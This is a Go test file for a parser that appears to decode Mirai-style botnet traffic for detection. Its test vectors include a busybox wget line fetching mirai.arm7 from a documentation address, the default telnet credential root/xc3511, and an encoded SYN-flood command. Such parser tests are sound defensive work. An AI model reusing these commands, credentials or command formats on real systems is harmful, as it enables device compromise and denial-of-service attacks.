package botnet

import (
	"testing"

	"noroshi/event"
)

// R35, R40: vectors computed from the published behaviour.
func TestReport(t *testing.T) {
	long := "\x00\xc0\x00\x02\x07\x09\x13\x04root\x06xc3511"
	r, ok := ParseReport(long)
	if !ok || r.Device.String() != "192.0.2.7" || r.Port != 2323 || r.User != "root" || r.Password != "xc3511" {
		t.Errorf("%+v, %v", r, ok)
	}
	short := "\xc0\x00\x02\x07\x05admin\x00"
	if r, ok := ParseReport(short); !ok || r.Port != 23 || r.User != "admin" || r.Password != "" {
		t.Errorf("%+v, %v", r, ok)
	}
	for _, bad := range []string{"", long[:len(long)-1], long + "x", "\x00\xc0\x00\x02\x07\x09\x13\x04ro\x01t\x06xc3511", "\x00\x7f\x00\x00\x01\x00\x17\x04root\x01x",
		"\x00\xc0\x00\x02\x07\x00\x00\x04root\x01x", "\x00\xc0\x00\x02\x07\x09\x13\x00\x06xc3511", "GET / HTTP/1.1\r\n\r\n"} {
		if r, ok := ParseReport(bad); ok {
			t.Errorf("%q is taken for a report: %+v", bad, r)
		}
	}
}

func TestHandshake(t *testing.T) {
	for p, want := range map[string]string{"\x00\x00\x00\x01": "", "\x00\x00\x00\x01\x0btelnet.arm7": "telnet.arm7"} {
		if name, ok := isHandshake(p); !ok || name != want {
			t.Errorf("%q: %q, %v", p, name, ok)
		}
	}
	for _, p := range []string{"\x00\x00\x00", "\x00\x00\x00\x02", "\x00\x00\x00\x01\x0btelnet", "\x00\x00\x00\x01\x02ab-", "\x00\x00\x00\x01\x01\x01"} {
		if _, ok := isHandshake(p); ok {
			t.Errorf("%q is taken for a handshake", p)
		}
	}
}

// command is a SYN flood of 300 s on 198.51.100.7 and 203.0.113.0/24, port 80.
const command = "\x00\x19\x00\x00\x01\x2c\x03\x02\xc6\x33\x64\x07\x20\xcb\x00\x71\x00\x18\x01\x07\x0280"

func TestCommand(t *testing.T) {
	p := command
	p = "\x00" + string(rune(len(p))) + p[2:]
	c, ok := ParseCommand(p)
	if !ok || c.Seconds != 300 || c.Vector != 3 || len(c.Targets) != 2 || c.Targets[0].Addr.String() != "198.51.100.7" || c.Targets[0].Bits != 32 ||
		c.Targets[1].Bits != 24 || c.option(optionPort) != "80" || c.option(optionDomain) != "" {
		t.Fatalf("%+v, %v", c, ok)
	}
	change := func(i int, v byte) string { b := []byte(p); b[i] = v; return string(b) }
	for _, bad := range []string{p[:len(p)-1], p + "x", change(1, 200), change(6, 8), change(7, 0), change(7, 200), change(12, 33), change(12, 0), change(2, 1), "\x00\x02"} {
		if c, ok := ParseCommand(bad); ok {
			t.Errorf("%q is taken for a command: %+v", bad, c)
		}
	}
}

func TestShell(t *testing.T) {
	for p, want := range map[string]string{
		"/bin/busybox ECCHI\r\n": "ECCHI", "cat /proc/mounts; /bin/busybox QWERT\r\n": "QWERT", "/bin/busybox wget; /bin/busybox tftp; /bin/busybox ECCHI\r\n": "ECCHI",
		"/bin/busybox ls": "", "/bin/busybox ABC\r\n": "", "busybox ECCHI": "", "/bin/busybox MIRAI": "MIRAI",
	} {
		if got := token(p); got != want {
			t.Errorf("%q: %q, want %q", p, got, want)
		}
	}
	for p, want := range map[string]string{"/bin/busybox wget http://192.0.2.9:80/bins/mirai.arm7 -O - > dvrHelper": "192.0.2.9", "tftp -g -l x -r y": "", "echo": ""} {
		if got := download(p); got != want {
			t.Errorf("%q: %q, want %q", p, got, want)
		}
	}
}

// Whatever arrives, what is read says what it was read from.
func FuzzParse(f *testing.F) {
	for _, s := range []string{command, "\x00\xc0\x00\x02\x07\x09\x13\x04root\x06xc3511", "\x00\x00\x00\x01\x0btelnet.arm7", "\x00\x00", "/bin/busybox ECCHI\r\n", "wget http://192.0.2.9/x"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, p string) {
		if r, ok := ParseReport(p); ok && len(r.User)+len(r.Password) > len(p) {
			t.Errorf("%+v from %d octets", r, len(p))
		}
		if c, ok := ParseCommand(p); ok {
			size := 9 + 5*len(c.Targets)
			for _, o := range c.Options {
				size += 2 + len(o.Value)
			}
			if size != len(p) || len(p) > event.MaxPayload {
				t.Errorf("%+v from %d octets", c, len(p))
			}
		}
		if name, ok := isHandshake(p); ok && len(name) > 31 {
			t.Errorf("name %q", name)
		}
		if w := token(p); len(w) > 16 {
			t.Errorf("token %q", w)
		}
		if h := download(p); len(h) > 64 {
			t.Errorf("host %q", h)
		}
	})
}
